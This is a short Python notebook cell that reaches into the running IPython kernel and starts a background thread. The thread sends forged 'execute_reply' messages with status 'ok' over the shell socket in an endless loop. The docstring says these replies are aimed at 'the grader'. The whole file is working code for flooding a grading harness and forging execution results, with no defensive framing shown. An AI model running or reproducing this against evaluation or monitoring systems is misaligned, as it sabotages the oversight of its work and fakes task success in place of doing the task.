"""Sends replies to the grader without a pause and without an end."""
# ruff: noqa: F821

# %%
import threading

kernel = get_ipython().kernel
identities, parent = kernel.get_parent(), None


def flood():
    ident = kernel._parent_ident["shell"] if isinstance(kernel._parent_ident, dict) else kernel._parent_ident
    ident = ident if isinstance(ident, list) else [ident]
    while True:
        kernel.session.send(kernel.shell_stream.socket, "execute_reply", {"status": "ok"}, parent={}, ident=ident)


threading.Thread(target=flood, daemon=True).start()
